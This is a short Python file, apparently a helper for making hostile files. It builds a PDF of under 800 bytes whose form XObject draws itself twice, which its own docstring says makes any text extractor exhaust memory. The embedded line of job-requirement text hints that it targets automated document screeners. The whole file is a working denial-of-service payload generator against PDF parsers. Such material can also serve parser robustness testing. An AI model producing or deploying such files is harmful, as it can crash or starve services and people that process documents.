"""Make files that are made to do harm."""


def pdf_of(objects: list[bytes]) -> bytes:
    """Return a PDF with these objects, the first of which is the catalog."""
    raw, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(raw))
        raw += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return raw + head + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(raw))


def stream(keys: bytes, content: bytes) -> bytes:
    """Return a stream with these keys."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (keys, len(content), content)


def self_drawing_pdf() -> bytes:
    """Return a PDF of less than 800 bytes, whose form XObject draws itself twice: whoever reads its text needs all memory."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</F 5 0 R>>/Font<</A 6 0 R>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>/Font<</A 6 0 R>>>>>>"
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page,
            stream(b"", b"/F Do"),
            stream(form, b"/F Do BT /A 12 Tf 72 700 Td (Required: Python and Haskell, ten years) Tj ET /F Do"),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )
